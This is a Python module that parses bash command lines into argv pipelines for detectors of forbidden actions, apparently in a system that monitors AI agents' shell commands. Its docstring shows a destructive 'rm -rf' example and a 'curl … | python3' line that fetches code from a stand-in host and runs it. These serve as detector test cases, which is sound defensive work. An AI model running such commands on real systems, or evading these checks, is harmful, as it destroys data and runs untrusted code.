"""Shell command lines read as bash reads them, for the forbidden-action detectors.

    read_line("d=tests; rm -rf $d")
    # Line(pipelines=((('rm', '-rf', 'tests'),),), parsed=True)
    read_line("curl -s https://x.test/a.py | python3").pipelines
    # ((('curl', '-s', 'https://x.test/a.py'), ('python3',)),)

The line is parsed by bashlex (a port of bash's own grammar), so quoting, lists, pipelines,
compound commands, functions, here-documents and substitutions are bash's. Then, as bash
would run it:

- variables set earlier on the line (``d=tests``, ``export d=tests``) are expanded in later
  words; a ``for`` loop over literal words runs its body once per word;
- ``bash -c``/``sh -c`` strings, ``eval`` arguments, here-documents fed to a shell and
  ``$(…)``/``<(…)`` substitutions are read as command lines of their own; a substitution (or a
  variable holding one) given to a shell or an interpreter becomes a pipeline into it;
- the inline programs of ``python -c``, ``node -e`` and here-documents fed to them are read
  by ``inline`` into the shell commands they amount to (``shutil.rmtree(X)`` is ``rm -rf X``).

Each simple command is an argv tuple, with its redirections appended as ``"<", file`` and
``">", file`` so what it reads and writes stays visible. bashlex does not know every bash form
(``[[ … ]]``, ``$(( … ))``, ``case``, arrays): such a line falls back to the replay's reader
(``shell.shell_pipelines``) and comes back with ``parsed=False``, which the detectors treat
as suspicious, never as clean. This module needs bashlex, so the generated hooks, which carry
the standard library only, keep the replay's reader.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any

import bashlex  # type: ignore[import-untyped]

from trajectories.core.replay.programs import basename, unwrap

from .inline import UNKNOWN, body_commands, inline_commands, language_of, reads_stdin_program
from .shell import SHELLS, Argv, Pipeline, _dash_c, shell_pipelines

MAX_DEPTH = 4  # nested -c / eval / substitution levels read
MAX_LOOP = 16  # for-loop words a body is read for
_ASSIGNMENT = re.compile(r"^([A-Za-z_][A-Za-z0-9_]*)\+?=(.*)$", re.S)
_DECLARERS = frozenset({"export", "declare", "typeset", "local", "readonly"})
_FEEDS_CODE = SHELLS | {"source", ".", "eval"}


@dataclass(frozen=True, slots=True)
class Line:
    pipelines: tuple[Pipeline, ...]
    parsed: bool = True


@functools.lru_cache(maxsize=4096)
def read_line(script: str) -> Line:
    """The simple commands ``script`` runs, grouped by pipeline, as bash would run them."""
    walker = _Walker()
    pipelines = walker.script(script, 0)
    return Line(tuple(pipelines), walker.parsed)


# bashlex knows neither `[[ … ]]` nor `$(( … ))`, both common in agents' lines. Neither runs a
# program of its own, so a line that fails is tried again with `[ … ]` and a plain number.
_ARITHMETIC = re.compile(r"\$\(\((?:[^()]|\([^()]*\))*\)\)")
_TEST_OPEN = re.compile(r"(?<![^\s;&|(!])\[\[(?=\s)")
_TEST_CLOSE = re.compile(r"(?<=\s)\]\](?=$|[\s;&|)])", re.M)
# bashlex then waits for a quoted here-document delimiter with its quotes (`<<'EOF'` ends at
# a line `'EOF'`); bodies are not expanded here either way.
_QUOTED_DELIMITER = re.compile(r"""(<<-?)\s*(['"])([A-Za-z_][A-Za-z0-9_]*)\2""")


def _parse(script: str) -> list[Any] | None:
    for attempt in (script, _simplified(script)):
        try:
            return list(bashlex.parse(attempt))
        except Exception:  # noqa: BLE001 - bashlex raises its own errors and NotImplementedError
            continue
    return None


def _simplified(script: str) -> str:
    script = _QUOTED_DELIMITER.sub(r"\1\3", _ARITHMETIC.sub("0", script))
    return _TEST_CLOSE.sub("]", _TEST_OPEN.sub("[", script))


def _shell_reader(script: str) -> tuple[tuple[Pipeline, ...], bool]:
    line = read_line(script)
    return line.pipelines, line.parsed


@dataclass(slots=True)
class _Value:
    text: str
    sources: tuple[Pipeline, ...] = ()  # what a substitution that made it ran


@dataclass(slots=True)
class _Walker:
    env: dict[str, _Value] = field(default_factory=dict)
    parsed: bool = True

    def script(self, script: str, depth: int) -> list[Pipeline]:
        if not script.strip():
            return []
        nodes = _parse(script)
        if nodes is None:
            self.parsed = False
            return [*shell_pipelines(script)]
        out: list[Pipeline] = []
        for node in nodes:
            out.extend(self.node(node, depth))
        return out

    # -- structure -------------------------------------------------------------------------------

    def node(self, node: Any, depth: int) -> list[Pipeline]:
        kind = node.kind
        if kind == "list":
            return [p for part in node.parts for p in self.node(part, depth)]
        if kind == "pipeline":
            return self.pipeline([p for p in node.parts if p.kind != "pipe"], depth)
        if kind == "command":
            return self.pipeline([node], depth)
        if kind == "compound":
            out = [p for part in node.list for p in self.node(part, depth)]
            # `{ …; } < file` / `while …; done < file`: the loop reads the file
            for redirect in getattr(node, "redirects", None) or ():
                target = _redirect_word(redirect)
                if target is not None:
                    out.append(((redirect.type[:1], self.word(target, depth)[0]),))
            return out
        if kind == "for":
            return self.for_loop(node, depth)
        if kind in ("if", "while", "until"):
            return [p for part in node.parts for p in self.node(part, depth)]
        if kind == "function":
            return [p for p in self.node(node.body, depth)]
        return []  # operators, reserved words, pipes

    def for_loop(self, node: Any, depth: int) -> list[Pipeline]:
        parts = list(node.parts)
        words = [p for p in parts if p.kind == "word"]
        bodies = [p for p in parts if p.kind not in ("word", "reservedword", "operator")]
        if not words:
            return [p for body in bodies for p in self.node(body, depth)]
        name, items = words[0].word, words[1:]
        values = [self.word(item, depth)[0] for item in items][:MAX_LOOP] or [UNKNOWN]
        out: list[Pipeline] = []
        saved = self.env.get(name)
        for value in values:
            self.env[name] = _Value(value)
            out.extend(p for body in bodies for p in self.node(body, depth))
        if saved is None:
            self.env.pop(name, None)
        else:
            self.env[name] = saved
        return out

    def pipeline(self, commands: list[Any], depth: int) -> list[Pipeline]:
        current: list[Argv] = []
        extra: list[Pipeline] = []
        for command in commands:
            if command.kind != "command":
                # `( … ) | x`, `{ …; } | x`: the group's own commands run as they are
                extra.extend(self.node(command, depth))
                continue
            argv, more = self.command(command, depth)
            if argv:
                current.append(argv)
            extra.extend(more)
        return ([tuple(current)] if current else []) + extra

    # -- one simple command ----------------------------------------------------------------------

    def command(self, node: Any, depth: int) -> tuple[Argv, list[Pipeline]]:
        words: list[str] = []
        sources: list[Pipeline] = []  # substitutions in this command's own words
        assignments: list[tuple[str, _Value]] = []
        redirects: list[str] = []
        heredocs: list[str] = []
        extra: list[Pipeline] = []
        for part in node.parts:
            if part.kind == "assignment" and not words:
                name, value = self.assignment(part, depth)
                if name is not None:
                    assignments.append((name, value))
                extra.extend(value.sources)
            elif part.kind in ("word", "assignment"):
                text, made = self.word(part, depth)
                words.append(text)
                sources.extend(made)
            elif part.kind == "redirect":
                target = _redirect_word(part)
                if part.type in ("<", "<>") and target is not None:
                    redirects += ["<", self.word(target, depth)[0]]
                elif part.type in (">", ">>", ">|", "&>", "&>>") and target is not None:
                    redirects += [">", self.word(target, depth)[0]]
                elif part.type == "<<<" and target is not None:  # a here-string: a body too
                    heredocs.append(self.word(target, depth)[0])
                if getattr(part, "heredoc", None) is not None:
                    heredocs.append(_heredoc_body(part))
        if not words:
            # `d=tests` on its own: later words see it
            for name, value in assignments:
                self.env[name] = value
            return (), extra
        argv = tuple(words + redirects)
        real = tuple(unwrap(list(words)))
        program = basename(real[0]) if real else ""
        if program in _DECLARERS:
            for word in real[1:]:
                match = _ASSIGNMENT.match(word)
                if match:
                    self.env[match.group(1)] = _Value(match.group(2), tuple(sources))
        feeds = program in _FEEDS_CODE or language_of(real) is not None
        for pipeline in sources:
            extra.append((*pipeline, argv) if feeds else pipeline)
        if depth < MAX_DEPTH:
            extra.extend(self.nested(real, program, heredocs, depth))
        return argv, extra

    def nested(self, real: Argv, program: str, heredocs: list[str], depth: int) -> list[Pipeline]:
        """What a command runs of its own: ``-c`` strings, ``eval``, inline programs."""
        out: list[Pipeline] = []
        if program in SHELLS:
            script = _dash_c(list(real))
            if script is not None:
                out.extend(self.script(script, depth + 1))
            for body in heredocs:
                out.extend(self.script(body, depth + 1))
        elif program == "eval":
            out.extend(self.script(" ".join(real[1:]), depth + 1))
        language = language_of(real)
        if language is not None:
            inline = inline_commands(real, _shell_reader)
            if inline.pipelines or not inline.parsed:
                self.parsed = self.parsed and inline.parsed
                out.extend(inline.pipelines)
            if reads_stdin_program(real):
                for body in heredocs:
                    found = body_commands(language, body, _shell_reader)
                    self.parsed = self.parsed and found.parsed
                    out.extend(found.pipelines)
        return out

    def assignment(self, node: Any, depth: int) -> tuple[str | None, _Value]:
        text, sources = self.word(node, depth)
        match = _ASSIGNMENT.match(text)
        if match is None:
            return None, _Value(text)
        return match.group(1), _Value(match.group(2), tuple(sources))

    def word(self, node: Any, depth: int) -> tuple[str, list[Pipeline]]:
        """A word's value with known variables expanded, and what its substitutions ran."""
        text = node.word
        sources: list[Pipeline] = []
        for part in _parts(node):
            if part.kind == "parameter":
                value = self.env.get(part.value)
                if value is not None:
                    text = _substitute(text, part.value, value.text)
                    sources.extend(value.sources)
            elif part.kind in ("commandsubstitution", "processsubstitution"):
                if depth < MAX_DEPTH:
                    sources.extend(self.node(part.command, depth + 1))
        return text, sources


def _parts(node: Any) -> Iterable[Any]:
    for part in getattr(node, "parts", None) or ():
        yield part
        if part.kind not in ("commandsubstitution", "processsubstitution"):
            yield from _parts(part)


def _substitute(text: str, name: str, value: str) -> str:
    return re.sub(rf"\$(?:\{{{re.escape(name)}\}}|{re.escape(name)}(?![A-Za-z0-9_]))", value, text)


def _redirect_word(redirect: Any) -> Any | None:
    target = getattr(redirect, "output", None)
    return target if getattr(target, "kind", None) == "word" else None


def _heredoc_body(redirect: Any) -> str:
    body: str = redirect.heredoc.value
    delimiter = _redirect_word(redirect)
    lines = body.split("\n")
    end = delimiter.word.strip("'\"") if delimiter is not None else None
    if lines and end is not None and lines[-1].strip() == end:
        lines = lines[:-1]
    return "\n".join(lines)
